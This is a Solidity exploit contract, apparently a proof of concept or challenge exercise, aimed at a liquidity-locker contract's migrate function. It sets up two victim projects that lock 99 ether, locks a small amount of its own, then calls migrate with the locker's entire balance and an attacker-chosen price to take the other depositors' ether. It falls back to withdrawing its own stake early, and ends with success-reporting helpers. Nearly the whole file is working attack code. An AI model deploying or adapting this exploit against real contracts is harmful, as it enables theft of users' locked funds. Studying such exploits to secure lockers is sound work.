// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface ITarget {
    function newPool() external view returns (address);
    function lock(uint256 tokens, uint256 until) external payable returns (uint256 id);
    function migrate(uint256 id, uint256 amount, uint256 tokens, uint256 price) external;
}

/// @notice An honest project, which locks its liquidity for a year.
contract Project {
    constructor(ITarget target) payable {
        target.lock{ value: msg.value }(msg.value, block.timestamp + 365 days);
    }
}

/// @notice The owner of a small lock, who migrates what belongs to the others.
contract Attack {
    uint256 private constant OWN = 1 ether;

    ITarget private immutable _target;
    uint256 private immutable _id;

    constructor(address target) payable {
        _target = ITarget(target);
        new Project{ value: 60 ether }(_target);
        new Project{ value: 39 ether }(_target);
        _id = _target.lock{ value: OWN }(OWN, block.timestamp + 365 days);
    }

    /// @param parameter The price of one token, in ether. A fair one is 1 ether.
    function attack(uint256 parameter) external {
        uint256 all = address(_target).balance;
        try _target.migrate(_id, all, all, parameter) { }
        catch {
            // What belongs to the others is out of reach: at least the own ether, before the lock ends.
            try _target.migrate(_id, OWN, OWN, parameter) { } catch { }
        }
    }

    receive() external payable { }

    function rows() external view returns (string[] memory names, uint256[] memory amounts) {
        names = new string[](3);
        amounts = new uint256[](3);
        (names[0], amounts[0]) = ("Ether in the locker", address(_target).balance);
        (names[1], amounts[1]) = ("Ether in the new pool", _target.newPool().balance);
        (names[2], amounts[2]) = ("Ether the attacker holds", address(this).balance);
    }

    /// @return More came back than the attacker had locked.
    function succeeded() external view returns (bool) {
        return address(this).balance > OWN;
    }
}
